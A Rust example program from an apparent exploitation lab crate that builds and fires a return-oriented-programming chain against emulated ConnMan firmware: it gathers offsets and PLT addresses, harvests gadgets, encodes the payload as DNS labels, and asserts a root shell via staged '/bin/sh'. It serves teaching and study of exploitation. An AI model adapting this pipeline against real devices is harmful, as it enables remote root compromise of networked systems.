//! ROP workbench: poke at the exploit-construction pipeline piece by
//! piece — reconnaissance, gadget harvest, chain assembly, label
//! encoding — and watch the machine execute the hijacked control flow.
//!
//! ```text
//! cargo run --example rop_workbench
//! ```

use connman_lab::exploit::target::deliver_labels;
use connman_lab::exploit::{RopMemcpyChain, TargetInfo};
use connman_lab::firmware::Firmware;
use connman_lab::vm::debug::Inspector;
use connman_lab::{Arch, FirmwareKind, Protections};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let arch = Arch::X86;
    let fw = Firmware::build(FirmwareKind::OpenElec, arch);
    println!("=== 1. reconnaissance (simulated gdb) ===");
    let fw2 = fw.clone();
    let info = TargetInfo::gather(fw.image(), move || fw2.boot(Protections::full(), 5))?;
    println!("buffer→ret offset : {}", info.frame.ret_offset);
    println!(
        "buffer address    : {:#010x} (reference boot)",
        info.frame.buf_addr
    );
    println!(".bss staging base : {:#010x}", info.bss_base);
    println!("memcpy@plt        : {:#010x}", info.plt("memcpy").unwrap());
    println!("execlp@plt        : {:#010x}", info.plt("execlp").unwrap());

    println!("\n=== 2. gadget harvest ({} found) ===", info.gadgets.len());
    for g in info.gadgets.iter().take(10) {
        println!("  {g}");
    }
    // Every gadget carries one effect descriptor: stack loads, stack
    // lift and transfer.
    for g in info.gadgets.iter().filter(|g| g.effect.loads.len() >= 3) {
        let e = &g.effect;
        println!(
            "  {g}\n      loads {:?}, lifts sp by {}, transfer {:?}",
            e.loads, e.sp_delta, e.transfer
        );
    }

    println!("\n=== 3. chain assembly ===");
    let (payload, cleanup) = RopMemcpyChain::new(arch).compile(&info)?;
    println!(
        "chosen cleanup gadget: {:#010x}",
        cleanup.expect("x86 chain cleans up")
    );
    println!("{}", payload.listing());

    println!("=== 4. DNS label encoding ===");
    let labels = payload.to_labels()?;
    println!(
        "{} labels, lengths: {:?}…",
        labels.len(),
        labels.iter().take(8).map(Vec::len).collect::<Vec<_>>()
    );

    println!("\n=== 5. fire against a fresh ASLR boot (traced) ===");
    let mut victim = fw.boot(Protections::full(), 999_999);
    victim.machine_mut().enable_trace(256);
    let outcome = deliver_labels(&mut victim, labels).expect("victim queries");
    println!("outcome: {outcome}");

    println!("\n=== 5b. the hijacked control flow, gadget by gadget ===");
    if let Some(trace) = victim.machine().trace() {
        for entry in trace.tail(24) {
            let text = Inspector::new(victim.machine())
                .disassemble(entry.pc, 1)
                .into_iter()
                .next()
                .unwrap_or_else(|| format!("{:#010x}: <native>", entry.pc));
            match entry.hook {
                Some(hook) => println!("  {text}   [libc: {hook}]"),
                None => println!("  {text}"),
            }
        }
    }

    println!("\n=== 6. post-mortem: the staged string in .bss ===");
    let inspector = Inspector::new(victim.machine());
    let staged = inspector.find(b"/bin/sh");
    for addr in &staged {
        println!("  \"/bin/sh\" found at {addr:#010x}");
    }
    assert!(outcome.is_root_shell());
    Ok(())
}
